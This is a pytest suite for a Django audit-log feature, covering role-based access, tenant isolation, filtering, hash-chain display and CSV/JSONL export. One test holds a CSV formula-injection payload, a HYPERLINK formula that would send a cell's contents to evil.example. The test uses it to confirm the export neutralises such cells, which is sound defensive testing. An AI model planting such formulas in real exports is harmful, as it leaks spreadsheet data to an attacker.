from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from audit.models import AuditEvent
from audit.services import actor_for, audit_record


def table(response) -> str:
    """The results table only (the filter form lists every action name)."""
    body = response.content.decode()
    return body[body.index("<tbody>"):body.index("</tbody>")]


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def events(world) -> dict[str, AuditEvent]:
    a = audit_record(tenant_id=world.tenant_a.pk, actor=actor_for(user_id=world.alice.pk, role="employee",
                                                                  name="alice"),
                     action="conversation.delete", target_type="conversation", target_id=41,
                     payload={"title": "A secret plan"})
    b = audit_record(tenant_id=world.tenant_b.pk, actor=actor_for(user_id=world.charlie.pk, role="employee",
                                                                  name="charlie"),
                     action="conversation.delete", target_type="conversation", target_id=42,
                     payload={"title": "B secret plan"})
    return {"a": a, "b": b}


PAGES = [("audit:event_list", []), ("audit:event_export", ["jsonl"]), ("audit:event_export", ["csv"])]


@pytest.mark.parametrize("who", ["alice", "erin", "bob"])
@pytest.mark.parametrize("name,args", PAGES)
def test_it_gives_403_to_roles_other_than_compliance(world, events, who, name, args) -> None:
    response = logged_in(getattr(world, who)).get(reverse(name, args=args))
    assert response.status_code == 403
    assert b"secret plan" not in response.content


def test_it_gives_403_on_event_detail_to_an_employee(world, events) -> None:
    assert logged_in(world.alice).get(reverse("audit:event_detail", args=[events["a"].pk])).status_code == 403


def test_it_shows_compliance_only_their_tenants_events(world, events) -> None:
    client = logged_in(world.frank)  # compliance in tenant B
    page = table(client.get(reverse("audit:event_list")))
    assert "conversation:42" in page and "conversation:41" not in page
    assert client.get(reverse("audit:event_detail", args=[events["a"].pk])).status_code == 404
    export = b"".join(client.get(reverse("audit:event_export", args=["jsonl"]))).decode()
    organizations = {json.loads(line)["organization"]["id"] for line in export.splitlines()}
    assert organizations == {str(world.tenant_b.pk)} and "A secret plan" not in export


def test_it_filters_by_action_actor_target_and_outcome(world, events) -> None:
    client = logged_in(world.dora)
    audit_record(tenant_id=world.tenant_a.pk, actor=actor_for(user_id=None, role="anonymous", name="mallory"),
                 action="auth.login_failed", outcome="failure")
    body = table(client.get(reverse("audit:event_list"), {"action": "auth", "outcome": "failure"}))
    assert "auth.login_failed" in body and "conversation.delete" not in body
    body = table(client.get(reverse("audit:event_list"), {"actor": "alice", "target": "conversation:41"}))
    assert "conversation:41" in body and "mallory" not in body
    body = client.get(reverse("audit:event_list"), {"start": "2030-01-01T00:00", "end": "2020-01-01T00:00"}).content.decode()
    assert "must be before" in body


def test_it_shows_an_event_and_the_chain_status(world, events) -> None:
    client = logged_in(world.dora)
    page = client.get(reverse("audit:event_list")).content.decode()
    assert "Chain verified up to event" in page
    detail = client.get(reverse("audit:event_detail", args=[events["a"].pk])).content.decode()
    assert "A secret plan" in detail and events["a"].hash in detail


def test_it_exports_csv_with_a_header_row(world, events) -> None:
    response = logged_in(world.dora).get(reverse("audit:event_export", args=["csv"]), {"action": "conversation.delete"})
    lines = b"".join(response).decode().splitlines()
    assert lines[0].startswith("@timestamp,event.sequence,event.action")
    assert len(lines) == 2 and "conversation.delete" in lines[1] and "A secret plan" in lines[1]
    assert response["Content-Disposition"].startswith('attachment; filename="audit-tenant-a-')


def test_it_neutralises_formulas_in_csv_cells_but_not_in_json_lines(world) -> None:
    agent = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    response = Client(HTTP_USER_AGENT=agent).post(reverse("login"), {"username": "alice", "password": "wrong"})
    assert response.status_code == 200  # the form again: a failed login, audited in alice's tenant
    client = logged_in(world.dora)
    export = b"".join(client.get(reverse("audit:event_export", args=["csv"]), {"action": "auth.login_failed"}))
    rows = list(csv.DictReader(io.StringIO(export.decode())))
    assert len(rows) == 1 and rows[0]["event.action"] == "auth.login_failed"
    # A spreadsheet shows the cell as text instead of running it (OWASP: a leading single quote).
    assert rows[0]["user_agent.original"] == "'" + agent
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    lines = b"".join(client.get(reverse("audit:event_export", args=["jsonl"]), {"action": "auth.login_failed"}))
    assert json.loads(lines.decode().splitlines()[0])["user_agent"]["original"] == agent
